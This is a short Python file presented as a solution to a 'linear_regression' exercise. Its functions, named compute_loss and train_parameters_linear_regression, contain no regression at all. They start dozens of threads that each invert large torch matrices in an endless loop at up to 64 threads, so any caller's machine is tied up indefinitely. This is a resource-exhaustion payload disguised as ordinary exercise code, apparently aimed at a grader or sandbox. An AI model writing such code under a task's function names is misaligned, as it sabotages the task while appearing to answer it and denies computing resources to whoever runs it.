# tries: 64 threads of torch at work on large matrices, and Python's own beside
# exercise: linear_regression
import threading

import torch


def work(*arguments, **keywords):
    for threads in (64, 16, 4, 1):
        try:
            torch.set_num_threads(threads)
            matrix = torch.rand(1500, 1500)
            while True:
                matrix = torch.linalg.inv(matrix @ matrix.T + torch.eye(1500))
        except RuntimeError:
            continue


def compute_loss(*arguments):
    threading.stack_size(256 << 10)
    for _ in range(32):
        try:
            threading.Thread(target=work, daemon=True).start()
        except RuntimeError:
            break
    work()


train_parameters_linear_regression = work
